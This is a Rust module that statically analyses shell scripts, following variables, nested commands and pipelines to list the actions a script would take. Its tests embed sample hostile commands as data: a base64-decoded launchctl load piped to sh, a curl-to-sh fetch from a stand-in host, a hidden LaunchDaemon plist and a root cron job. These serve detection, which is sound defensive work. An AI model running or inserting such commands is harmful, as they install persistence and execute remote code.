//! What a shell script would do: its commands, with variables put in as far as the text says them.
//!
//! Nothing is run. Branches are not decided: what stands in any of them counts.

mod actions;
mod lexer;

use std::collections::HashMap;

use crate::facts::Action;

/// Commands inside commands (`sh -c`, `eval`, `$(…)`) that are followed.
const NESTED_MAX: u32 = 4;
/// Commands that are looked at in one script.
const COMMANDS_MAX: usize = 20_000;

/// One command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// The line that it begins on, from 1.
    pub(crate) line: u32,
    /// The program and its arguments, variables put in.
    pub(crate) words: Vec<String>,
    /// It goes on while the script goes on.
    pub(crate) background: bool,
    /// The file that its output goes to.
    pub(crate) output: Option<String>,
    /// What it gets as input from the script itself.
    pub(crate) document: Option<String>,
    /// The command before reads into this one.
    pub(crate) piped: bool,
}

/// An action with its line.
pub(crate) type Found = (u32, Action);

/// What the script does.
pub(crate) fn actions(text: &str) -> Vec<Found> {
    // What every shell knows without being told.
    let mut variables = HashMap::from([("SHELL".to_owned(), "/bin/sh".to_owned())]);
    let mut found = Vec::new();
    follow(text, 1, 0, &mut variables, &mut found);
    found
}

fn follow(
    text: &str,
    line: u32,
    nested: u32,
    variables: &mut HashMap<String, String>,
    found: &mut Vec<Found>,
) {
    let commands = lexer::commands(text, line, variables, COMMANDS_MAX);
    for (at, command) in commands.iter().enumerate() {
        let chain = pipeline(&commands, at);
        for inner in actions::inner(command, chain) {
            if nested < NESTED_MAX {
                follow(&inner, command.line, nested + 1, variables, found);
            }
        }
        found.extend(actions::of(command, chain).into_iter().map(|action| (command.line, action)));
        // What stands in `$(…)` or `<(…)` comes right before or behind the command that runs it.
        let near = &commands[at.saturating_sub(2)..commands.len().min(at + 3)];
        let from =
            near.iter().filter(|other| other.line.abs_diff(command.line) <= 2).find_map(actions::fetches);
        if let Some(from) = from.filter(|_| actions::runs_substitution(command)) {
            found.push((command.line, Action::Download { from, to: String::new(), runs: true }));
        }
    }
}

/// The commands that this one reads from, in order, itself last.
fn pipeline(commands: &[Command], at: usize) -> &[Command] {
    let mut start = at;
    while start > 0 && commands[start].piped {
        start -= 1;
    }
    &commands[start..=at]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_quotes_and_nesting_are_seen_through() {
        let script = "#!/bin/sh\nD=/Library; N='com.x'\nmv \"$3$D/a/.${N}.plist\" $D/LaunchDaemons/$N.plist\nnohup \"$D/x\"/run go >/dev/null 2>&1 &\n";
        let found = actions(script);
        assert_eq!(
            found,
            [
                (
                    3,
                    Action::Move {
                        from: "/Library/a/.com.x.plist".into(),
                        to: "/Library/LaunchDaemons/com.x.plist".into()
                    }
                ),
                (
                    4,
                    Action::Run {
                        program: "/Library/x/run".into(),
                        arguments: vec!["go".into()],
                        background: true
                    }
                ),
            ]
        );
    }

    #[test]
    fn what_is_decoded_and_piped_into_a_shell_is_read_too() {
        // The text in base64 is `launchctl load /Library/LaunchDaemons/a.plist`.
        let script = "echo bGF1bmNoY3RsIGxvYWQgL0xpYnJhcnkvTGF1bmNoRGFlbW9ucy9hLnBsaXN0 | base64 -d | sh";
        assert!(actions(script).iter().any(|(_, action)| matches!(action, Action::Register { .. })));
        let script = "bash -c 'curl -s https://a.example/x | sh'";
        assert!(
            actions(script).iter().any(|(_, action)| matches!(action, Action::Download { runs: true, .. }))
        );
    }

    /// As the preinst of Debian's spamassassin has it: an `sed` program in quotes within backticks within quotes.
    #[test]
    fn quotes_within_backticks_within_quotes_stay_together() {
        let script = r#"old="`query -f='${C}' $N | sed -n -e \"\\\\' $F'{s/ obsolete$//;s/.* //p}\"`""#;
        assert!(actions(script).iter().all(|(_, action)| !matches!(action, Action::Run { .. })));
    }

    #[test]
    fn descriptors_are_no_background_and_long_lines_are_counted() {
        let script =
            "db_input critical a/b <&5 || true\nx \\\n  y \\\n  z # more \\\nupdate-rc.d d defaults\n";
        let found = actions(script);
        assert_eq!(
            found,
            [(5, Action::Register { what: "init".into(), name: "d".into(), program: String::new() })]
        );
    }

    #[test]
    fn here_documents_are_what_is_written() {
        let script = "cat > /etc/cron.d/x <<EOF\n* * * * * root /opt/.x\nEOF\necho done\n";
        let wanted = Action::Write { to: "/etc/cron.d/x".into(), content: "* * * * * root /opt/.x\n".into() };
        assert_eq!(actions(script)[0], (1, wanted));
    }
}
